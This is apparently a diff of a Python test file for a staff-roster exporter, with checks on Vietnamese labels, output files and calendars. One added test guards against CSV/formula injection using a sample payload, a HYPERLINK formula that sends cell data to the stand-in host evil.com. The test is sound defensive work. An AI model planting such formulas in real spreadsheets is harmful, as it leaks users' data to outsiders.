@@ -12,7 +12,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from roster import export
+from roster import export, outputs
 from roster.model import (
     Absence,
     Assignment,
@@ -97,9 +97,29 @@ def test_summary_tables(problem, roster) -> None:
 
 def test_vietnamese_labels(problem, roster) -> None:
     tables = export.summary_tables(problem, roster, lang="vi")
-    assert tables[0].title.startswith("Số người trực tiếp")
-    assert tables[0].rows[0][0] == "T2 13/12 sáng"
-    assert "C1 Đăng ký đất đai" in tables[1].notes[0]
+    assert tables[0].title.startswith("Số cán bộ làm việc trực tiếp tại cơ quan mỗi ca")
+    assert tables[0].rows[0][0] == "T2 13/12 ca sáng"
+    assert "Q1 Đăng ký đất đai" in tables[1].notes[0]
+    assert tables[1].columns == ["Ca làm việc", "Q1", "NV1"]
+    # rule ids are for policy.yaml: the Vietnamese penalties table names rules only in words
+    pen = tables[-1]
+    assert pen.columns == ["Nội dung", "Số lần", "Điểm trừ"]
+    assert all("." not in str(r[0]) for r in pen.rows) and pen.rows[-1][0] == "Tổng"
+
+
+def test_codes_never_read_as_a_weekday_a_shift_or_a_team(problem, roster) -> None:
+    """In Vietnamese T2 is Thứ Hai and C is Chiều: posts are Q1.. and NV1..; in English the
+    shift headings are never one letter (A would read as team A)."""
+    vi = export.text_grid(export.RosterView(problem, roster, "vi"))
+    header = vi.splitlines()[1:3]
+    assert "T2 13/12" in header[0] and "Sáng" not in header[0]
+    cells = vi.splitlines()[4:12]
+    assert all(" T2" not in line and " C1" not in line for line in cells)
+    assert any("Q1+T" in line for line in cells) and any("Nhà" in line for line in cells)
+    assert "CQ Trực tiếp tại cơ quan, công việc chung" in vi and "Nhà Làm việc tại nhà" in vi
+    en = export.text_grid(export.RosterView(problem, roster, "en"))
+    shift_heads = en.splitlines()[2].split()[5:]
+    assert set(shift_heads) == {"AM", "PM"}
 
 
 def test_format_table_aligns_and_truncates() -> None:
@@ -201,8 +221,11 @@ def test_write_outputs_and_exchange_format(tmp_path: Path, problem, roster) -> N
         gap=1.0,
         wall_time=1.5,
     )
-    paths = export.write_outputs(tmp_path / "out", problem, result, report, scenario="tiny")
-    assert [p.name for p in paths] == list(export.OUTPUT_FILES)
+    paths = outputs.write_outputs(
+        tmp_path / "out", problem, roster, result=result, report=report, scenario="tiny"
+    )
+    assert [p.name for p in paths] == [*outputs.OUTPUT_FILES, "calendars"]
+    assert len(list((tmp_path / "out" / "calendars").glob("*.ics"))) == len(problem.staff)
     doc = json.loads((tmp_path / "out" / "roster.json").read_text("utf-8"))
     assert doc["format"] == "office-roster/roster" and doc["version"] == 1
     assert doc["problem"]["scenario"] == "tiny" and doc["problem"]["days"] == 7
@@ -223,10 +246,10 @@ def test_write_outputs_is_all_or_nothing(
     def broken(*args, **kwargs):
         raise OSError("disk full")
 
-    monkeypatch.setattr(export, "write_tests_csv", broken)
+    monkeypatch.setattr(outputs, "write_tests_csv", broken)
     result = SolveResult(status=Status.optimal, roster=roster, objective=0)
     with pytest.raises(OSError):
-        export.write_outputs(out, problem, result, Report())
+        outputs.write_outputs(out, problem, roster, result=result, report=Report())
     assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no temp folder left
     assert [p.name for p in out.iterdir()] == ["roster.csv"]
     assert (out / "roster.csv").read_text("utf-8") == "old"
@@ -252,3 +275,74 @@ def test_sheet_notes_explain_short_headings(tmp_path: Path, problem, roster) -> 
     ws = openpyxl.load_workbook(path)["Headcount"]
     assert ws["B2"].value == "HC"
     assert "HC Hành chính" in [c.value for c in ws["A"]]
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.parametrize("first", FORMULA_STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
+def test_formula_like_names_are_neutralised(tmp_path: Path, problem, roster, first) -> None:
+    """OWASP CSV injection: a name starting with = + - @ tab or CR never reaches a spreadsheet
+    as a formula: CSV cells get a leading apostrophe, XLSX cells are text with the quote
+    prefix (no <f> element anywhere in the workbook)."""
+    import zipfile
+
+    name = first + PAYLOAD
+    victim = problem.staff[0].id
+    problem.staff[0].name = name
+    roster.tests.append(RapidTest(staff=victim, date=day(6)))
+    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
+    export.write_tests_csv(tmp_path / "tests.csv", problem, roster)
+    for f in ("roster.csv", "tests.csv"):
+        with open(tmp_path / f, encoding="utf-8-sig", newline="") as fh:
+            names = [r["name"] for r in csv.DictReader(fh) if r["staff_id"] == victim]
+        assert names and all(n == "'" + name for n in names), (f, names[:1])
+    export.write_xlsx(tmp_path / "roster.xlsx", problem, roster)
+    with zipfile.ZipFile(tmp_path / "roster.xlsx") as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in z.read(n) for n in sheets)
+    wb = openpyxl.load_workbook(tmp_path / "roster.xlsx")
+    found = [
+        c
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and c.value.endswith(PAYLOAD)  # XML turns CR into LF
+    ]
+    assert len(found) >= 2  # the Roster grid and the People sheet
+    assert all(c.data_type == "s" and c.quotePrefix for c in found)
+
+
+def test_harmless_text_is_left_alone(tmp_path: Path, problem, roster) -> None:
+    problem.staff[0].name = "Nguyễn Văn An = tổ trưởng"
+    export.write_roster_csv(tmp_path / "roster.csv", problem, roster)
+    text = (tmp_path / "roster.csv").read_text(encoding="utf-8-sig")
+    assert "Nguyễn Văn An = tổ trưởng" in text and "'Nguyễn" not in text
+
+
+def test_remote_duties_show_in_the_grid_csv_and_calendar(tmp_path: Path) -> None:
+    from roster.ical import person_calendar
+    from roster.model import Demand, Post, RemoteDuty, Roster
+    from tests.helpers import tiny_problem
+
+    posts = [
+        Post(id="C", demands=[Demand(shifts=["AM"])]),
+        Post(id="hotline", name="Hotline", kind="remote", demands=[Demand(shifts=["AM"])]),
+    ]
+    p = tiny_problem(days=1, posts=posts)
+    day = p.horizon.start
+    roster = Roster(
+        remote_duties=[RemoteDuty(staff="s1", date=day, shift="AM", post="hotline")],
+        assignments=[Assignment(staff="s0", date=day, shift="AM", post="C")],
+    )
+    v = export.RosterView(p, roster)
+    cell = v.cell("s1", 0, "AM")
+    assert (cell.mode, cell.post, v.code(cell)) == ("remote", "hotline", "H1")
+    assert v.code(v.cell("s2", 0, "AM")) == "R"
+    export.write_roster_csv(tmp_path / "roster.csv", p, roster)
+    rows = list(csv.DictReader((tmp_path / "roster.csv").open(encoding="utf-8-sig")))
+    mine = [r for r in rows if r["staff_id"] == "s1" and r["shift"] == "AM"]
+    assert [(r["mode"], r["post"]) for r in mine] == [("remote", "hotline")]
+    ics = person_calendar(p, roster, "s1").decode()
+    assert "SUMMARY:Duty from home: Hotline (Morning)" in ics and "REMOTE-DUTY" in ics
